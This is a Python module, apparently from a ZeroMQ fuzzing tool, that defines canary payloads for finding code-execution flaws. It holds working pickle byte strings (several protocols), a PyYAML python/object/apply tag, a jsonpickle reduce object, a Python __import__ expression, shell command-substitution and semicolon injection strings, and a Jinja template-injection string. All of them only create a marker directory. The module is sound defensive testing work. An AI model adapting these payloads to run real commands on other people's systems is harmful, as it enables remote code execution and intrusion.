"""Payloads that make the mark of :mod:`zmqfuzz.canary`, and nothing else, where they are executed. Registers nothing.

Each is a whole document, so that a part of it is refused before anything runs. Sources: Python's pickletools,
PyYAML's full constructor, jsonpickle's tags, the command substitution of shells (POSIX 2.6.3), Jinja's ``cycler``.
"""

from __future__ import annotations

from zmqfuzz.canary import PLACEHOLDER

__all__ = ["CANARIES", "WORDS"]

_TEXT = bytes([len(PLACEHOLDER)]) + PLACEHOLDER
_MODE = b"\x8c\x01x"

CANARIES = (
    b"\x80\x04\x8c\x02os\x8c\x05mkdir\x93\x8c" + _TEXT + b"\x85R.",
    b"cos\nmkdir\n(V" + PLACEHOLDER + b"\ntR.",
    b"\x80\x02cos\nmkdir\nX" + len(PLACEHOLDER).to_bytes(4, "little") + PLACEHOLDER + b"\x85R.",
    b"\x80\x04\x8c\x08builtins\x8c\x04open\x93\x8c" + _TEXT + _MODE + b"\x86R.",
    b"\x80\x04}\x8c\x04type\x8c\x02os\x8c\x05mkdir\x93\x8c" + _TEXT + b"\x85Rs.",
    b'!!python/object/apply:os.mkdir ["' + PLACEHOLDER + b'"]\n',
    b'{"py/reduce": [{"py/function": "os.mkdir"}, {"py/tuple": ["' + PLACEHOLDER + b'"]}]}',
    b'__import__("os").mkdir("' + PLACEHOLDER + b'")',
)
"""Pickles of protocol 4, 0 and 2, of another function, within a mapping; YAML; jsonpickle; a Python expression."""

WORDS = (
    b'__import__("os").mkdir("' + PLACEHOLDER + b'")',
    b"$(mkdir " + PLACEHOLDER + b")",
    b";mkdir " + PLACEHOLDER + b";",
    b"{{cycler.__init__.__globals__.os.mkdir('" + PLACEHOLDER + b"')}}",
)
"""What a word or field of a message may be: an expression, what a shell is told to do on the way, a template."""
